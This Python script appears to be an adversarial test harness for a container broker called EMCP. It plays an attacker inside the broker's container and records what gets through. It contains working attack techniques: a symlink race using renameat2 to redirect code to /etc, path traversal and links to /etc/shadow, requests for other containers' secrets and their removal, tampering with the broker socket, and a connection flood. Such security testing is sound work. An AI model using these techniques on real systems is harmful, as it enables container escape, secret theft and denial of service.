"""What somebody tries who runs code in EMCP's own container. Runs there, with nothing but Python's own library.

Reads what it needs from `attack.json` beside itself, and writes what came of it to `outcome.json`.
"""

import ctypes
import json
import os
import shutil
import socket
import struct
import sys
import threading
import uuid
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
FACTS: dict[str, Any] = json.loads((HERE / "attack.json").read_text())
GREETING = b"emcp-broker 2\n"
CODE = "print('hello')\n"
RACES = 12

Json = dict[str, Any]


def wish(what: Any) -> Any:
    """The broker's answer, or `None` where it hung up without one."""
    with socket.socket(socket.AF_UNIX) as broker:
        broker.settimeout(60)
        broker.connect(os.environ["EMCP_BROKER"])
        body = json.dumps(what).encode()
        broker.sendall(GREETING + struct.pack(">I", len(body)) + body)
        said = broker.makefile("rb")
        assert said.read(len(GREETING)) == GREETING
        head = said.read(4)
        return json.loads(said.read(struct.unpack(">I", head)[0])) if len(head) == 4 else None


def server(code: str = CODE) -> str:
    """A folder as EMCP makes it, with one version of code; the server's id."""
    made = str(uuid.uuid4())
    folder = HERE / made / "versions" / "1"
    folder.mkdir(parents=True)
    (folder / "server.py").write_text(code)
    return made


def run(of: str, **changes: Any) -> Any:
    spec: Json = {
        "server": of,
        "name": f"{FACTS['instance']}-{os.urandom(8).hex()}",
        "server_name": "demo",
        "instance": str(uuid.uuid4()),
        "generation": 1,
        "revision": 1,
        "egress": "open",
        "endpoint": FACTS["address"],
        "code": f"{of}/versions/1",
        "disk_bytes": None,
        "env": [["EMCP_ENTRY_OBJECT", "mcp"]],
        "secret_keys": [],
        "limits": {"memory_bytes": 1 << 30, "cpus": 1.0, "pids": 64},
        "stop_grace_secs": 1,
    }
    return wish({"run": {**spec, **changes}})


def outcome_of(attempt: Any, *arguments: Any) -> str:
    try:
        attempt(*arguments)
    except OSError as error:
        return error.strerror or repr(error)
    return "done"


def exchange(one: Path, other: Path) -> None:
    """Swaps two names in one step (renameat2(2)), so that there is always something under both."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.renameat2(-100, os.fsencode(one), -100, os.fsencode(other), 2) != 0:
        raise OSError(ctypes.get_errno(), "renameat2")


def race() -> list[Any]:
    """Bends the path to the code while it is being used."""
    of = server()
    versions = HERE / of / "versions"
    (versions / "bent").symlink_to("/etc")
    ends = threading.Event()

    def bend() -> None:
        while not ends.is_set():
            exchange(versions / "1", versions / "bent")

    bender = threading.Thread(target=bend)
    bender.start()
    try:
        return [run(of) for _ in range(RACES)]
    finally:
        ends.set()
        bender.join()


def mounts() -> Json:
    """Every way to code that is not the server's own."""
    answers: Json = {}
    good = server()
    for code in ("/etc", "..", "broker", f"{good}/../../etc", f"{good}", f"{server()}/versions/1"):
        answers[code] = run(good, code=code)
    for part in ("versions/1", "versions"):
        of = server()
        shutil.rmtree(HERE / of / part)
        (HERE / of / part).symlink_to("/etc")
        answers[f"link {part}"] = run(of)
    of = server()
    (HERE / of / "versions/1/shadow").symlink_to("/etc/shadow")
    answers["link in code"] = run(of)
    of = server()
    (HERE / of / "storage").symlink_to(FACTS["victim_folder"])
    answers["link storage"] = run(of, disk_bytes=64 << 20)
    return answers


def specs() -> Json:
    """Fields that the broker does not know, and values that are none."""
    good = server()
    answers = {key: run(good, **{key: value}) for key, value in FACTS["forbidden_fields"].items()}
    answers["name"] = run(good, name=f"{FACTS['instance']}-traefik")
    answers["address outside"] = run(good, endpoint="172.17.0.2")
    answers["address of the gateway"] = run(good, endpoint=FACTS["gateway"])
    answers["address of the other network"] = run(good, egress="none")
    shot = {"what": {"shell": {"command": ["sh"]}}, "patience_secs": 5}
    answers["another program"] = wish({"run_once": shot})
    return answers


def foreign(container: str) -> Json:
    """Everything that takes an id, at a container of somebody else's."""
    attach = {"id": container, "egress": "open", "endpoint": FACTS["address"]}
    wishes: Json = {
        **{word: {"id": container} for word in ("inspect", "start", "pause", "unpause", "usage", "given_secrets")},
        "stop": {"id": container, "grace_secs": 0},
        "remove": {"id": container},
        "tail": {"id": container, "lines": 10},
        "follow": {"id": container, "since_secs": 0},
        "attach": attach,
    }
    return {word: wish({word: arguments}) for word, arguments in wishes.items()}


def folders() -> Json:
    """What is mounted into other containers must stay where it is."""
    answers: Json = {}
    for name in ("broker", "traefik", "acme", "sockets"):
        answers[f"rename {name}"] = outcome_of(os.rename, HERE / name, HERE / f"{name}-away")
        answers[f"remove {name}"] = outcome_of(os.rmdir, HERE / name)
    for name in ("broker", "acme", "sockets"):
        answers[f"write {name}"] = outcome_of((HERE / name / "planted").write_text, "x")
    answers["unlink socket"] = outcome_of(os.unlink, os.environ["EMCP_BROKER"])
    return answers


def flood() -> str:
    """Connections that say nothing, or nonsense, and an honest question after them."""
    held = []
    for number in range(300):
        broker = socket.socket(socket.AF_UNIX)
        broker.connect(os.environ["EMCP_BROKER"])
        broker.sendall([b"", os.urandom(100), GREETING, GREETING + b"\xff\xff\xff\xff"][number % 4])
        held.append(broker)
    answer = wish("ping")
    for broker in held:
        broker.close()
    return json.dumps(answer)


def main() -> None:
    made = run(server())
    outcome = {
        "user": [os.getuid(), *os.getgroups()],
        "sockets": [path for path in ("/var/run/docker.sock", "/run/docker.sock") if os.path.exists(path)],
        "own": made,
        "own_inspected": wish({"inspect": {"id": made.get("Ok")}}),
        # So that its address is free.
        "own_removed": wish({"remove": {"id": made.get("Ok")}}),
        "race": race(),
        "mounts": mounts(),
        "specs": specs(),
        "foreign": {container: foreign(container) for container in FACTS["foreign"]},
        "no_id": {name: wish({"remove": {"id": name}}) for name in FACTS["names"]},
        "folders": folders(),
        "flood": flood(),
    }
    (HERE / "outcome.json").write_text(json.dumps(outcome))


if __name__ == "__main__":
    sys.exit(main())
